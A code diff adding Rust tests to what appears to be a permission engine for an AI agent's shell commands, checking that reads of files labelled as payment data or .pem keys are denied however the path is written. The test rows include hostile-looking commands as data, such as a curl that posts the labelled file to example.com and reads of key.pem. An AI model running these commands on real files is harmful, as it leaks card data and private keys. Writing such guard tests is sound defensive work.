@@ -17,7 +17,8 @@ use crate::core::data::DataRules;
 use crate::core::decision::Decision::{self, Allow, Ask, Deny};
 use crate::core::fixture;
 use crate::core::manifest::BuiltinClass;
-use crate::core::policy::{Circumstances, Pack, PolicySet, PolicySource};
+use crate::core::policy::labels::{Labels, LayerRules, Rule, Subject};
+use crate::core::policy::{Circumstances, Layer, Pack, PolicySet, PolicySource};
 use crate::core::run::Run;
 
 /// Ways to `git push`, with what `standard` and `strict` say. Each is run by bash, too.
@@ -151,6 +152,31 @@ const FILES: &[(&str, Decision, Decision)] = &[
     ("git rebase --exec ./x", Allow, Ask),
 ];
 
+/// Ways to a file that has a label, which one policy refuses.
+const LABELLED: &[(&str, Decision)] = &[
+    ("cat src/payments/card", Deny),
+    ("cat ./src/../SRC/payments/card", Deny),
+    ("cat HOME/agentsup/../../tree/src/payments/card", Deny),
+    ("grep -f src/payments/card x", Deny),
+    ("grep --file=src/payments/card x", Deny),
+    ("grep -fsrc/payments/card x", Deny),
+    ("curl -d @src/payments/card -F a=@src/payments/card example.com", Deny),
+    ("git show HEAD:src/payments/card", Deny),
+    ("cat < src/payments/card", Deny),
+    ("echo > src/payments/new", Deny),
+    ("cd src/payments && ls", Deny),
+    ("cd src && cat payments/card", Deny),
+    ("cat key.pem", Deny),
+    ("dd if=key.pem", Deny),
+    ("echo > new.pem", Deny),
+    ("cat src/other x y z", Allow),
+    ("echo new.pem", Allow),
+    ("make payments", Allow),
+    // Nobody sees: what holds it, and what stands for it.
+    ("grep -r x src", Allow),
+    ("cat src/*/card", Allow),
+];
+
 struct World {
     _guard: tempfile::TempDir,
     root: PathBuf,
@@ -169,6 +195,9 @@ impl World {
         std::fs::write(root.join("tree/push.sh"), "git push\n").unwrap();
         std::fs::write(root.join("tree/Makefile"), ".PHONY: push\npush:\n\tgit push\n").unwrap();
         symlink(root.join("home/.ssh"), root.join("tree/link")).unwrap();
+        std::fs::create_dir_all(root.join("tree/src/payments")).unwrap();
+        std::fs::write(root.join("tree/src/payments/card"), "4").unwrap();
+        std::fs::write(root.join("tree/key.pem"), "key").unwrap();
         let executable = |path: PathBuf| {
             std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
         };
@@ -253,6 +282,40 @@ fn a_push_is_asked_about_however_it_is_written() {
 #[test]
 fn a_file_is_known_however_it_is_named() {
     assert_rows(FILES);
+}
+
+#[test]
+fn a_labelled_file_is_known_to_a_shell_as_to_a_tool_that_reads() {
+    let world = World::new();
+    let rule = |pattern| Rule::new(Subject::Path, pattern, vec!["pci".to_owned()], None).unwrap();
+    let rules = vec![rule("src/payments/**"), rule("**/*.pem")];
+    let labels = || Labels::new(vec![LayerRules { layer: Layer::Org, team: None, rules: rules.clone() }]);
+    let no = |more: &str| {
+        let text = format!(
+            r#"@id("no") forbid (principal, action in Action::"tool", resource)
+            when {{ context.labels.contains("pci"){more} }};"#
+        );
+        let own = PolicySource { layer: Layer::Org, team: None, file: "a.cedar".into(), text };
+        PolicySet::load_with(&[PolicySource::pack(Pack::Observe), own], labels()).unwrap()
+    };
+    let plain = no("");
+    let decided = |set: &PolicySet, line: &str| {
+        let action = Action::Tool(world.action(BuiltinClass::Shell, &[], Some(&world.placed(line))));
+        set.evaluate(&fixture::agent(), &world.run, &action, &Circumstances::default()).decision
+    };
+    for (line, expected) in LABELLED {
+        assert_eq!(decided(&plain, line), *expected, "{line}");
+    }
+    let many: String = (0..3000).map(|n| format!(" src/{n}")).collect();
+    assert_eq!(decided(&plain, &format!("git add{many}")), Allow);
+    assert_eq!(decided(&plain, &format!("git add{many} src/payments/card")), Deny);
+    // Where a policy looks at each path, more than can be looked at are refused.
+    assert_eq!(
+        decided(&no(r#" || context has path && context.path == "/x""#), &format!("git add{many}")),
+        Deny
+    );
+    let message = format!("git commit -m '{}'", "a/b ".repeat(5000));
+    assert_eq!(decided(&plain, &message), Allow);
 }
 
 /// A row about a way that does not work would prove nothing.
